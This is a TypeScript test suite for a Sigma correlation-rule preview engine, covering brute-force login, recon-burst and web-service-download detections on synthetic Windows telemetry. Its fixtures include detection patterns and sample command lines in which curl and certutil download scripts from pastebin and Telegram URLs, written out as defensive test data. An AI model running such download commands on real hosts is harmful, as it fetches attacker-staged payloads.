import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { previewRule, RuleCompileError, type CorrelationMatch, type PreviewResult, type TelemetryEvent } from '../index';
import { previewInContext, pickRule } from './in-context';
import { parseTime } from './time';
import { parseTimespan } from './spec';
import { percentile } from './evaluate';
import { loadSource } from '../../document/source';

const T0 = Date.parse('2024-05-01T09:00:00Z');
/** An event `seconds` after 09:00 UTC, with its time in Sysmon's UtcTime format. */
const at = (seconds: number, fields: TelemetryEvent): TelemetryEvent => ({
  UtcTime: new Date(T0 + seconds * 1000).toISOString().replace('T', ' ').replace('Z', ''),
  ...fields,
});
const iso = (seconds: number): string => new Date(T0 + seconds * 1000).toISOString();
const ndjson = (events: TelemetryEvent[]): string => events.map((e) => JSON.stringify(e)).join('\n') + '\n';

async function preview(
  ruleYaml: string,
  events: TelemetryEvent[],
  extra: { context?: { path: string; text: string }[]; docIndex?: number; timeFields?: string[] } = {},
): Promise<PreviewResult> {
  return previewInContext(
    { ruleText: ruleYaml, rulePath: 'rules/mr_test.yml', docIndex: extra.docIndex },
    [{ source: 'events.ndjson', text: ndjson(events), format: 'ndjson' }],
    { run: previewRule, context: extra.context, timeFields: extra.timeFields },
  );
}

const brief = (c: CorrelationMatch): unknown => ({ group: c.group, window: c.window, count: c.count, value: c.value, events: c.events.map((e) => e.index) });

const FAILED = `title: Single failed login
id: 53ba33fd-3a50-4468-a5ef-c583635cfa92
name: failed_login
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID:
            - 529
            - 4625
    condition: selection
`;
const SUCCESS = `title: Successful login
id: 4d0a2c83-c62c-4ed4-b475-c7e23a9269b8
name: successful_login
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID:
            - 528
            - 4624
    condition: selection
`;

describe('event_count (the specification: many failed logins)', () => {
  const rule = `title: Many failed logins
id: 0e95725d-7320-415d-80f7-004da920fc11
correlation:
    type: event_count
    rules:
        - 53ba33fd-3a50-4468-a5ef-c583635cfa92
    group-by:
        - User
    timespan: 5m
    condition:
        gte: 5
---
${FAILED}`;
  // alice: 6 failures in 4 minutes (fires), 2 more an hour later (too few); bob: 3 (too few);
  // carol: 5 failures spread over 8 minutes (never 5 within 5 minutes); a success for alice.
  const events = [
    ...[0, 30, 60, 120, 180, 240].map((s) => at(s, { EventID: 4625, User: 'alice' })),
    ...[10, 20, 30].map((s) => at(s, { EventID: 4625, User: 'bob' })),
    ...[0, 120, 240, 360, 480].map((s) => at(s, { EventID: 4625, User: 'carol' })),
    at(3600, { EventID: 4625, User: 'alice' }),
    at(3660, { EventID: 4625, User: 'alice' }),
    at(250, { EventID: 4624, User: 'alice' }),
    at(50, { EventID: 4625 }),
  ];

  it('fires once for the group that reached the count, with the window and its events', async () => {
    const r = await preview(rule, events);
    assert.equal(r.rule, 'Many failed logins');
    assert.deepEqual(r.correlations?.map(brief), [
      { group: { User: 'alice' }, window: { start: iso(0), end: iso(240) }, count: 6, value: undefined, events: [0, 1, 2, 3, 4, 5] },
    ]);
    assert.equal(r.scanned, events.length);
    assert.equal(r.matched, 17, 'every failure the referenced rule matched');
    assert.ok(
      r.warnings.some((w) => /1 matched event lacked a group-by field \(User\)/.test(w)),
      r.warnings.join('\n'),
    );
    assert.deepEqual(r.referenced, [
      { ref: '53ba33fd-3a50-4468-a5ef-c583635cfa92', title: 'Single failed login', type: 'detection', matched: 17, standalone: false },
    ]);
  });

  it('a range condition and lt / eq / neq select other groups', async () => {
    const range = rule.replace('gte: 5', 'gt: 2\n        lte: 4');
    // Windows open at each failure and reach 5 minutes on (inclusive); a firing window is not reused.
    // alice: 6 from 0 s, 5 from 30 s, then 4 from 60 s (fires). bob: 3 from 10 s. carol: 3 from 0 s (0, 120, 240).
    const r = await preview(range, events);
    assert.deepEqual(
      r.correlations?.map((c) => [c.group.User, c.count, c.window.start, c.window.end]),
      [
        ['carol', 3, iso(0), iso(240)],
        ['bob', 3, iso(10), iso(30)],
        ['alice', 4, iso(60), iso(240)],
      ],
    );
  });

  it('eq and neq compare exactly', async () => {
    const eq = await preview(rule.replace('gte: 5', 'eq: 2'), events);
    assert.deepEqual(
      eq.correlations?.map((c) => [c.group.User, c.count, c.window.start]),
      [
        ['bob', 2, iso(20)],
        ['alice', 2, iso(180)],
        ['carol', 2, iso(360)],
        ['alice', 2, iso(3600)],
      ],
    );
    const neq = await preview(rule.replace('gte: 5', 'neq: 6'), events);
    assert.ok(!neq.correlations?.some((c) => c.count === 6));
  });
});

describe('temporal_ordered chained over event_count (the specification example)', () => {
  const rule = `title: Correlation - Multiple Failed Logins Followed by Successful Login
id: b180ead8-d58f-40b2-ae54-c8940995b9b6
correlation:
    type: temporal_ordered
    rules:
        - multiple_failed_login
        - successful_login
    group-by:
        - User
    timespan: 10m
level: high
---
title: Multiple failed logons
id: a8418a5a-5fc4-46b5-b23b-6c73beb19d41
name: multiple_failed_login
correlation:
    type: event_count
    rules:
        - failed_login
    group-by:
        - User
    timespan: 10m
    condition:
        gte: 10
---
${FAILED}---
${SUCCESS}`;
  const tenFailures = (user: string, from: number): TelemetryEvent[] => Array.from({ length: 10 }, (_, i) => at(from + i * 30, { EventID: 4625, User: user }));
  // alice: 10 failures then a success (fires); bob: the success comes first; carol: success 30 min later.
  const events = [
    ...tenFailures('alice', 0),
    at(300, { EventID: 4624, User: 'alice' }),
    at(0, { EventID: 4624, User: 'bob' }),
    ...tenFailures('bob', 60),
    ...tenFailures('carol', 0),
    at(2100, { EventID: 4624, User: 'carol' }),
  ];

  it('picks the outermost correlation of the file and fires only where the order and the timespan hold', async () => {
    const r = await preview(rule, events);
    assert.equal(r.rule, 'Correlation - Multiple Failed Logins Followed by Successful Login');
    assert.equal(r.correlations?.length, 1);
    const c = r.correlations![0];
    assert.deepEqual(c.group, { User: 'alice' });
    assert.equal(c.count, 2);
    assert.deepEqual(c.window, { start: iso(0), end: iso(300) }, 'from the first failure behind the inner firing to the success');
    assert.deepEqual(
      c.events.map((e) => e.index),
      [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10],
    );
    assert.deepEqual(
      r.referenced?.map((x) => [x.ref, x.type, x.matched]),
      [
        ['multiple_failed_login', 'correlation', 3],
        ['successful_login', 'detection', 3],
      ],
    );
  });

  it('unordered temporal accepts bob too (success before failures)', async () => {
    const r = await preview(rule.replace('type: temporal_ordered', 'type: temporal'), events);
    assert.deepEqual(r.correlations?.map((c) => c.group.User).sort(), ['alice', 'bob']);
  });

  it('previews an inner rule when asked for its document', async () => {
    const r = await preview(rule, events, { docIndex: 1 });
    assert.equal(r.rule, 'Multiple failed logons');
    assert.deepEqual(
      r.correlations?.map((c) => c.group.User),
      ['alice', 'carol', 'bob'],
    );
  });
});

describe('temporal (recon commands in any order)', () => {
  const recon = (name: string, cmd: string): string =>
    `title: Recon ${cmd}\nname: ${name}\nlogsource:\n    category: process_creation\n    product: windows\ndetection:\n    selection:\n        CommandLine|contains: '${cmd}'\n    condition: selection\n`;
  const rule = `title: Recon burst
correlation:
    type: temporal
    rules:
        - recon_cmd_a
        - recon_cmd_b
        - recon_cmd_c
    group-by:
        - ComputerName
        - User
    timespan: 5m
---
${recon('recon_cmd_a', 'whoami')}---
${recon('recon_cmd_b', 'net user')}---
${recon('recon_cmd_c', 'ipconfig')}`;
  const p = (s: number, host: string, user: string, cmd: string): TelemetryEvent => at(s, { EventID: 1, ComputerName: host, User: user, CommandLine: cmd });
  const events = [
    p(0, 'ws1', 'u1', 'ipconfig /all'),
    p(60, 'ws1', 'u1', 'whoami /priv'),
    p(100, 'ws1', 'u2', 'whoami'),
    p(170, 'ws1', 'u1', 'net user admin'),
    p(200, 'ws2', 'u1', 'whoami'),
    p(220, 'ws2', 'u1', 'net user'),
    p(400, 'ws1', 'u2', 'net user x'),
    p(700, 'ws1', 'u2', 'ipconfig'),
  ];
  it('fires for the host and user that ran all three within 5 minutes', async () => {
    const r = await preview(rule, events);
    assert.deepEqual(r.correlations?.map(brief), [
      { group: { ComputerName: 'ws1', User: 'u1' }, window: { start: iso(0), end: iso(170) }, count: 3, value: undefined, events: [0, 1, 3] },
    ]);
  });
  it('an explicit condition counts distinct rules (2 of 3); the timespan is inclusive', async () => {
    const r = await preview(rule.replace('timespan: 5m', 'timespan: 5m\n    condition:\n        gte: 2'), events);
    // ws1/u2: whoami at 100 s and net user at 400 s are exactly 5 minutes apart.
    assert.deepEqual(
      r.correlations?.map((c) => [c.group.ComputerName, c.group.User, c.count, c.window.start, c.window.end]),
      [
        ['ws1', 'u1', 2, iso(0), iso(60)],
        ['ws1', 'u2', 2, iso(100), iso(400)],
        ['ws2', 'u1', 2, iso(200), iso(220)],
      ],
    );
  });
});

describe('value_count and the value_* metrics', () => {
  const base = `title: Failed logon from a source
name: failed_src
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 4625
    condition: selection
`;
  const events = [
    at(0, { EventID: 4625, IpAddress: '10.0.0.5', TargetUserName: 'a', Bytes: 100 }),
    at(60, { EventID: 4625, IpAddress: '10.0.0.5', TargetUserName: 'b', Bytes: 300 }),
    at(120, { EventID: 4625, IpAddress: '10.0.0.5', TargetUserName: 'b', Bytes: '200' }),
    at(180, { EventID: 4625, IpAddress: '10.0.0.5', TargetUserName: 'c', Bytes: 1000 }),
    at(200, { EventID: 4625, IpAddress: '10.0.0.9', TargetUserName: 'a', Bytes: 5 }),
    at(210, { EventID: 4625, IpAddress: '10.0.0.9', TargetUserName: 'a', Bytes: 'n/a' }),
  ];
  const corr = (type: string, condition: string): string =>
    `title: Spray\ncorrelation:\n    type: ${type}\n    rules:\n        - failed_src\n    group-by:\n        - IpAddress\n    timespan: 1h\n    condition:\n${condition}\n---\n${base}`;

  it('value_count counts distinct values of field per group', async () => {
    const r = await preview(corr('value_count', '        field: TargetUserName\n        gte: 3'), events);
    assert.deepEqual(r.correlations?.map(brief), [
      { group: { IpAddress: '10.0.0.5' }, window: { start: iso(0), end: iso(180) }, count: undefined, value: 3, events: [0, 1, 2, 3] },
    ]);
  });
  it('value_sum, value_avg, value_median and value_percentile over numeric values', async () => {
    const values = async (type: string, cond: string): Promise<unknown[]> =>
      (await preview(corr(type, cond), events)).correlations!.map((c) => [c.group.IpAddress, c.value]);
    assert.deepEqual(await values('value_sum', '        field: Bytes\n        gt: 1000'), [['10.0.0.5', 1600]]);
    assert.deepEqual(await values('value_avg', '        field: Bytes\n        gte: 5'), [
      ['10.0.0.5', 400],
      ['10.0.0.9', 5],
    ]);
    assert.deepEqual(await values('value_median', '        field: Bytes\n        gt: 100'), [['10.0.0.5', 250]]);
    assert.deepEqual(await values('value_percentile', '        field: Bytes\n        percentile: 75\n        gte: 450'), [['10.0.0.5', 475]]);
  });
  it('percentile interpolates between ranks', () => {
    assert.equal(percentile([1, 2, 3, 4], 50), 2.5);
    assert.equal(percentile([5], 90), 5);
    assert.equal(percentile([10, 0, 20], 100), 20);
  });
});

describe('aliases (the specification example) ', () => {
  const rule = `title: Error then connection back
correlation:
    type: temporal
    rules:
        - internal_error
        - new_network_connection
    group-by:
        - internal_ip
        - remote_ip
    timespan: 10s
    aliases:
        internal_ip:
            internal_error: destination.ip
            new_network_connection: source.ip
        remote_ip:
            internal_error: source.ip
            new_network_connection: destination.ip
---
title: Internal error
name: internal_error
logsource:
    category: webserver
detection:
    selection:
        http.response.status_code: 500
    condition: selection
---
title: New connection
name: new_network_connection
logsource:
    category: network_connection
detection:
    selection:
        event.category: network
        event.type: connection
        event.outcome: success
    condition: selection
`;
  const web = (s: number, src: string, dst: string): TelemetryEvent => ({
    '@timestamp': iso(s),
    http: { response: { status_code: 500 } },
    source: { ip: src },
    destination: { ip: dst },
  });
  const conn = (s: number, src: string, dst: string): TelemetryEvent => ({
    '@timestamp': iso(s),
    event: { category: 'network', type: 'connection', outcome: 'success' },
    source: { ip: src },
    destination: { ip: dst },
  });
  it('groups events whose fields differ per rule', async () => {
    // The error is 203.0.113.7 → 10.1.1.1; the connection back is 10.1.1.1 → 203.0.113.7 (same pair, aliased).
    const events = [
      web(0, '203.0.113.7', '10.1.1.1'),
      conn(5, '10.1.1.1', '203.0.113.7'),
      conn(6, '203.0.113.7', '10.1.1.1'),
      web(100, '198.51.100.1', '10.1.1.2'),
      conn(120, '10.1.1.2', '198.51.100.1'),
    ];
    const r = await preview(rule, events);
    assert.deepEqual(r.correlations?.map(brief), [
      { group: { internal_ip: '10.1.1.1', remote_ip: '203.0.113.7' }, window: { start: iso(0), end: iso(5) }, count: 2, value: undefined, events: [0, 1] },
    ]);
  });
});

describe('web service contact then download (T1102 / T1105), grouped by host across rule files', () => {
  const dns = `title: DNS query for a paste or Telegram domain
name: paste_dns
logsource:
    product: windows
    category: dns_query
detection:
    selection:
        QueryName|endswith:
            - 'pastebin.com'
            - 'api.telegram.org'
    condition: selection
tags:
    - attack.command-and-control
    - attack.t1102
`;
  const download = `title: Process downloads from a paste or Telegram domain
name: paste_download
logsource:
    product: windows
    category: process_creation
detection:
    selection_tool:
        Image|endswith:
            - '\\curl.exe'
            - '\\certutil.exe'
            - '\\powershell.exe'
    selection_url:
        CommandLine|contains:
            - 'pastebin.com/raw'
            - 'api.telegram.org/file'
    condition: all of selection_*
tags:
    - attack.command-and-control
    - attack.t1105
`;
  const rule = `title: Early web-service contact followed by a download from it
correlation:
    type: temporal_ordered
    rules:
        - paste_dns
        - paste_download
    group-by:
        - host
    timespan: 10m
    aliases:
        host:
            paste_dns: Computer
            paste_download: DeviceName
tags:
    - attack.t1102
    - attack.t1105
`;
  const q = (s: number, host: string, name: string): TelemetryEvent =>
    at(s, { EventID: 22, Computer: host, QueryName: name, Image: 'C:\\Windows\\System32\\svchost.exe' });
  const proc = (s: number, host: string, image: string, cmd: string): TelemetryEvent => at(s, { EventID: 1, DeviceName: host, Image: image, CommandLine: cmd });
  const events = [
    q(0, 'ws-07', 'pastebin.com'),
    proc(240, 'ws-07', 'C:\\Windows\\System32\\curl.exe', 'curl -o x.ps1 https://pastebin.com/raw/abc'),
    q(10, 'ws-09', 'api.telegram.org'),
    proc(5, 'ws-09', 'C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f https://api.telegram.org/file/bot1/x'),
    q(100, 'ws-11', 'pastebin.com'),
    proc(1000, 'ws-11', 'C:\\Windows\\System32\\curl.exe', 'curl https://pastebin.com/raw/zzz'),
    q(50, 'ws-12', 'www.google.com'),
    proc(60, 'ws-12', 'C:\\Windows\\System32\\curl.exe', 'curl https://pastebin.com/raw/q'),
  ];
  it('fires for the host whose DNS query came first and the download within 10 minutes', async () => {
    const r = await preview(rule, events, {
      context: [
        { path: 'rules/dns.yml', text: dns },
        { path: 'rules/download.yml', text: download },
      ],
    });
    assert.deepEqual(r.correlations?.map(brief), [
      { group: { host: 'ws-07' }, window: { start: iso(0), end: iso(240) }, count: 2, value: undefined, events: [0, 1] },
    ]);
  });
  it('says which reference it cannot find', async () => {
    await assert.rejects(
      preview(rule, events, { context: [{ path: 'rules/dns.yml', text: dns }] }),
      (e: unknown) => e instanceof RuleCompileError && /'paste_download'/.test(e.message),
    );
  });
});

describe('event time and timespans', () => {
  it('reads the usual time fields and formats', () => {
    assert.equal(parseTime('2024-05-01 09:00:00.123'), Date.parse('2024-05-01T09:00:00.123Z'));
    assert.equal(parseTime('2019-03-19T23:52:31.2513862Z'), Date.parse('2019-03-19T23:52:31.251Z'));
    assert.equal(parseTime('2024-05-01T11:00:00+02:00'), Date.parse('2024-05-01T09:00:00Z'));
    assert.equal(parseTime({ '#attributes': { SystemTime: '2024-05-01T09:00:00Z' } }), T0);
    assert.equal(parseTime(1714554000), T0);
    assert.equal(parseTime(1714554000000), T0);
    assert.equal(parseTime('yesterday-ish'), null);
  });
  it('EVTX TimeCreated and configurable time fields order events', async () => {
    const rule = `title: Two in a minute\ncorrelation:\n    type: event_count\n    rules: [x]\n    group-by: [Host]\n    timespan: 1m\n    condition:\n        gte: 2\n---\ntitle: X\nname: x\nlogsource:\n    product: test\ndetection:\n    selection:\n        Kind: x\n    condition: selection\n`;
    const evtx = (s: number): TelemetryEvent => ({
      Event: { System: { TimeCreated: { '#attributes': { SystemTime: iso(s) } } }, EventData: { Kind: 'x', Host: 'h' } },
    });
    const r = await preview(rule, [evtx(0), evtx(30)]);
    assert.deepEqual(
      r.correlations?.map((c) => c.window),
      [{ start: iso(0), end: iso(30) }],
    );
    const custom = await preview(
      rule,
      [
        { Kind: 'x', Host: 'h', When: iso(0), UtcTime: iso(500) },
        { Kind: 'x', Host: 'h', When: iso(20), UtcTime: iso(0) },
      ],
      { timeFields: ['When'] },
    );
    assert.deepEqual(
      custom.correlations?.map((c) => c.window),
      [{ start: iso(0), end: iso(20) }],
    );
    const untimed = await preview(rule, [{ Kind: 'x', Host: 'h' }]);
    assert.ok(untimed.warnings.some((w) => /no readable time/.test(w)));
  });
  it('timespans: number and unit', () => {
    assert.equal(parseTimespan('90m'), 5400000);
    assert.equal(parseTimespan('1d'), 86400000);
    assert.equal(parseTimespan('5 m'), null);
    assert.equal(parseTimespan('0s'), null);
    assert.equal(parseTimespan('1H'), null);
  });
});

describe('pickRule', () => {
  it('prefers the outermost correlation, then the first detection rule', () => {
    const file = loadSource(
      'x.yml',
      `${FAILED}---\ntitle: C\ncorrelation:\n    type: event_count\n    rules: [failed_login]\n    group-by: [User]\n    timespan: 5m\n    condition: {gte: 2}\n`,
    );
    assert.equal(pickRule(file.sigma)?.title?.value, 'C');
    assert.equal(pickRule(file.sigma, 0)?.title?.value, 'Single failed login');
  });
});
